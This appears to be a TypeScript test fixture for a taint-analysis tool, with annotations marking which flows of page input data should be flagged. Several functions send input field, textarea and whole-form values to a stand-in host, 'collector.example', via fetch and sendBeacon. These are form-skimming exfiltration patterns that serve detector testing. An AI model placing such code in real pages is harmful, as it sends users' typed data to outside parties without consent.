// Elements of a page by their declared types: what a user writes into them leaves.
const U = "https://collector.example/e";

export function cast(event: Event) {
  const target = event.target as HTMLInputElement;
  fetch(U, { method: "POST", body: target.value }); //~ source(INPUT) f1, sink(egress.http) f1, finding(traced) f1
  fetch(U, { method: "POST", body: target.id }); //~ ok
}

export function declared(field: HTMLTextAreaElement) {
  navigator.sendBeacon(U, field.value); //~ source(INPUT) f2, sink(egress.http) f2, finding(traced) f2
}

// What has a value is no field of a page for that.
interface Setting { value: string }
export function setting(one: Setting) {
  navigator.sendBeacon(U, one.value); //~ ok
}

export function form(event: SubmitEvent) {
  const data = new FormData(event.target as HTMLFormElement); //~ source(INPUT) f3
  fetch(U, { method: "POST", body: data }); //~ sink(egress.http) f3, finding(traced) f3
  const empty = new FormData();
  empty.append("kind", "form");
  fetch(U, { method: "POST", body: empty }); //~ ok
}
